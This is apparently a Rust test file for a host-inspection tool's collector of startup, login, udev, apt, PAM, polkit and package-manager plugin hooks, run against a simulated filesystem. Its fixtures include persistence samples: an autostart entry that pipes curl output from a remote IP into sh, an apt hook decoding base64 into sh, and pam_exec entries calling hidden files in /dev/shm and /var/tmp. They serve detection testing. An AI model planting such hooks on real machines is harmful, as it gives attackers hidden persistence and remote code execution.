//! Tests of the whole `hooks` collector on a host with every class of hook.

use super::*;
use dossier_plugin_api::host::FileKind;
use dossier_plugin_api::testing::{MemHost, run_collector};
use std::collections::BTreeMap;

#[test]
fn collects_every_location() {
    let h = MemHost::new(false)
        .link("/lib", "usr/lib")
        .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n")
        .exe("/etc/init.d/cron", "#!/bin/sh\n")
        .file("/etc/init.d/README", "text\n")
        .link("/etc/rc2.d/S01cron", "../init.d/cron")
        .exe("/etc/rc3.d/S99local", "#!/bin/sh\n/tmp/x &\n")
        .exe("/etc/rc.local", "#!/bin/sh\nexit 0\n")
        .file("/etc/profile", "PATH=/usr/bin\n")
        .file("/etc/profile.d/a.sh", "x=1\n")
        .file("/etc/profile.d/b.csh", "set x=1\n")
        .file("/etc/bash.bashrc", "PS1='$ '\n")
        .file("/home/alice/.bashrc", "alias ll='ls -l'\n")
        .file("/root/.profile", "mesg n\n")
        .exe("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n")
        .exe("/etc/update-motd.d/old.bak", "#!/bin/sh\n")
        .file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x\n")
        .file("/etc/xdg/autostart/y.desktop", "[Desktop Entry]\nExec=/usr/bin/y\nHidden=true\n")
        .file("/home/alice/.config/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://192.0.2.1/a | sh'\n")
        .file("/usr/lib/udev/rules.d/60-a.rules", "KERNEL==\"sd*\", RUN+=\"/usr/bin/a\"\n")
        .file("/usr/lib/udev/rules.d/61-b.rules", "KERNEL==\"sd*\", SYMLINK+=\"b\"\n")
        .file("/etc/udev/rules.d/70-c.rules", "RUN+=\"/bin/sh -c 'id'\"\n")
        .special("/etc/profile.d/fifo.sh", FileKind::Fifo);
    let (sink, r) = run_collector(
        &HooksCollector,
        &h,
        serde_json::Value::Null,
        &Default::default(),
    );
    r.unwrap();
    let hooks = sink.of_kind("hooks", "hook");
    let by: BTreeMap<String, serde_json::Value> = hooks
        .iter()
        .map(|h| (h["path"].as_str().unwrap().to_string(), h.clone()))
        .collect();
    assert_eq!(by["/etc/init.d/cron"]["active"], true);
    assert_eq!(by["/etc/init.d/README"]["active"], false);
    assert_eq!(by["/etc/rc2.d/S01cron"]["link_target"], "../init.d/cron");
    assert!(by["/etc/rc2.d/S01cron"].get("source").is_none());
    assert!(by["/etc/rc3.d/S99local"]["source"]["member"].is_string());
    assert_eq!(by["/etc/rc.local"]["class"], "rc.local");
    assert_eq!(by["/etc/profile.d/a.sh"]["active"], true);
    assert_eq!(by["/etc/profile.d/b.csh"]["active"], false);
    assert_eq!(by["/home/alice/.bashrc"]["owner"], "alice");
    assert_eq!(by["/root/.profile"]["runs_at"], "login");
    assert_eq!(by["/etc/update-motd.d/10-uname"]["active"], true);
    assert_eq!(by["/etc/update-motd.d/old.bak"]["active"], false);
    assert_eq!(
        by["/etc/xdg/autostart/x.desktop"]["commands"][0],
        "/usr/bin/x"
    );
    assert_eq!(by["/etc/xdg/autostart/y.desktop"]["active"], false);
    let upd = &by["/home/alice/.config/autostart/upd.desktop"];
    assert_eq!(upd["owner"], "alice");
    assert_eq!(upd["active"], true);
    assert_eq!(
        upd["commands"][0],
        "sh -c 'curl -s http://192.0.2.1/a | sh'"
    );
    // /lib/udev is /usr/lib/udev: each rules file once; files without RUN are skipped.
    let udev: Vec<&String> = by.keys().filter(|k| k.contains("udev")).collect();
    assert_eq!(
        udev,
        [
            "/etc/udev/rules.d/70-c.rules",
            "/usr/lib/udev/rules.d/60-a.rules"
        ]
    );
    assert_eq!(
        by["/etc/udev/rules.d/70-c.rules"]["commands"][0],
        "/bin/sh -c 'id'"
    );
    assert!(sink.raw.contains_key("raw/etc/udev/rules.d/70-c.rules"));
    assert!(!sink.raw.contains_key("raw/usr/lib/udev/rules.d/61-b.rules"));
    assert_eq!(sink.issues_about("/etc/profile.d/fifo.sh").len(), 1);
}

#[test]
fn the_file_cap_is_recorded() {
    let mut h = MemHost::new(false).file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    for i in 0..5 {
        h = h.exe(&format!("/etc/init.d/s{i}"), "#!/bin/sh\n");
    }
    let (sink, r) = run_collector(
        &HooksCollector,
        &h,
        serde_json::json!({"max_files": 3}),
        &Default::default(),
    );
    r.unwrap();
    assert_eq!(sink.of_kind("hooks", "hook").len(), 3);
    assert_eq!(sink.issues_about("hooks").len(), 1);
}

#[test]
fn collects_apt_yum_dnf_pam_and_polkit() {
    let h = MemHost::new(false)
        .link("/lib", "usr/lib")
        .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
        .file("/etc/apt/apt.conf.d/70debconf", "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n")
        .file("/etc/apt/apt.conf.d/99-apt-fast-update", "APT::Update::Post-Invoke { \"echo Y3VybA== | base64 -d | sh\"; };\n")
        .file("/etc/apt/apt.conf.d/50x.bak", "DPkg::Post-Invoke {\"/tmp/x\";};\n")
        .special("/etc/apt/apt.conf.d/fifo", FileKind::Fifo)
        .file("/etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_unix2.so\n")
        .file("/etc/pam.d/sshd", "@include common-auth\nsession optional pam_exec.so quiet /dev/shm/.s\naccount required pam_gone.so\nauth required /opt/pam/pam_x.so\n@include /var/tmp/.p\n@include /etc/pam.d/common-auth\n")
        .file("/var/tmp/.p", "auth optional pam_exec.so /var/tmp/.q\n@include /etc/pam.d/sshd\n")
        .file("/etc/pam.conf", "sshd auth required pam_ignored.so\n")
        .special("/etc/pam.d/fifo", FileKind::Fifo)
        .file_bytes_path(b"/etc/pam.d/bad\xff", b"auth required pam_\xff.so\n")
        .file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "elf")
        .file("/usr/lib/x86_64-linux-gnu/security/pam_deny.so", "elf")
        .file("/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", "elf")
        .file("/usr/lib/x86_64-linux-gnu/security/pam_exec.so", "elf")
        .file("/etc/polkit-1/rules.d/49-svc.rules", "polkit.addRule(function(a, subject) { if (subject.user == \"svc\") return polkit.Result.YES; });\n")
        .file("/etc/polkit-1/rules.d/README", "text\n")
        .file("/etc/polkit-1/localauthority/50-local.d/x.pkla", "[x]\nIdentity=unix-user:bob\nAction=*\nResultAny=yes\n")
        .file("/etc/dnf/dnf.conf", "[main]\ngpgcheck=1\n")
        .file("/etc/dnf/plugins/off.conf", "[main]\nenabled=0\n")
        .file("/usr/lib/python3.11/site-packages/dnf-plugins/off.py", "x")
        .file("/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py", "import os\n")
        .file("/etc/yum.conf", "[main]\nplugins=1\n")
        .file("/etc/yum/pluginconf.d/fastestmirror.conf", "[main]\nenabled=1\n")
        .file("/usr/lib/yum-plugins/fastestmirror.py", "x")
        .file("/usr/lib/yum-plugins/noconf.py", "x");
    let (sink, r) = run_collector(
        &HooksCollector,
        &h,
        serde_json::Value::Null,
        &Default::default(),
    );
    r.unwrap();
    let hooks = sink.of_kind("hooks", "hook");
    let by: BTreeMap<String, serde_json::Value> = hooks
        .iter()
        .map(|h| (h["path"].as_str().unwrap().to_string(), h.clone()))
        .collect();
    let apt = &by["/etc/apt/apt.conf.d/99-apt-fast-update"];
    assert_eq!(apt["class"], "apt");
    assert_eq!(apt["active"], true);
    assert_eq!(apt["commands"][0], "echo Y3VybA== | base64 -d | sh");
    assert!(apt["source"]["member"].is_string());
    assert_eq!(by["/etc/apt/apt.conf.d/50x.bak"]["active"], false);
    assert_eq!(sink.issues_about("/etc/apt/apt.conf.d/fifo").len(), 1);
    assert_eq!(by["/etc/pam.d/sshd"]["commands"][0], "/dev/shm/.s");
    assert_eq!(by["/etc/pam.conf"]["active"], false);
    // A FIFO is recorded as an issue, never opened; a non-UTF-8 name and content are kept.
    assert_eq!(sink.issues_about("/etc/pam.d/fifo").len(), 1);
    assert!(by.keys().any(|k| k.starts_with("/etc/pam.d/bad")));
    assert!(
        by.keys()
            .any(|k| k.starts_with("pam_") && k.ends_with(".so") && k.contains('\u{fffd}'))
    );
    // An include outside /etc/pam.d is collected and parsed (includes loop at most once).
    assert_eq!(by["/var/tmp/.p"]["class"], "pam");
    assert_eq!(by["/var/tmp/.p"]["commands"][0], "/var/tmp/.q");
    assert_eq!(
        hooks
            .iter()
            .filter(|h| h["path"] == "/etc/pam.d/sshd")
            .count(),
        1
    );
    // Modules: resolved through /lib -> /usr/lib once, referenced lines kept; missing
    // modules recorded without metadata; pam.conf's ignored (pam.d exists).
    let unix2 = &by["/lib/x86_64-linux-gnu/security/pam_unix2.so"];
    assert_eq!(unix2["class"], "pam-module");
    assert_eq!(unix2["active"], true);
    assert_eq!(unix2["referenced_by"][0], "/etc/pam.d/common-auth:3");
    assert!(unix2.get("source").is_none());
    let gone = &by["pam_gone.so"];
    assert!(gone.get("meta").is_none());
    assert_eq!(gone["active"], false);
    assert_eq!(gone["referenced_by"][0], "/etc/pam.d/sshd:3");
    assert!(by["/opt/pam/pam_x.so"].get("meta").is_none());
    assert!(!by.contains_key("pam_ignored.so"));
    assert_eq!(by.keys().filter(|k| k.ends_with("pam_unix.so")).count(), 1);
    assert_eq!(
        by["/etc/polkit-1/rules.d/49-svc.rules"]["grants"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    assert_eq!(by["/etc/polkit-1/rules.d/README"]["active"], false);
    assert!(
        by["/etc/polkit-1/localauthority/50-local.d/x.pkla"]["grants"][0]
            .as_str()
            .unwrap()
            .contains("unix-user:bob")
    );
    let dnf = "/usr/lib/python3.11/site-packages/dnf-plugins/";
    assert_eq!(by[&format!("{dnf}off.py")]["active"], false);
    assert_eq!(by[&format!("{dnf}sneaky.py")]["active"], true);
    assert_eq!(by[&format!("{dnf}sneaky.py")]["class"], "dnf-plugin");
    assert_eq!(
        by["/etc/yum/pluginconf.d/fastestmirror.conf"]["active"],
        true
    );
    assert_eq!(by["/etc/dnf/plugins/off.conf"]["active"], false);
    assert_eq!(by["/usr/lib/yum-plugins/fastestmirror.py"]["active"], true);
    assert_eq!(by["/usr/lib/yum-plugins/noconf.py"]["active"], false);
}
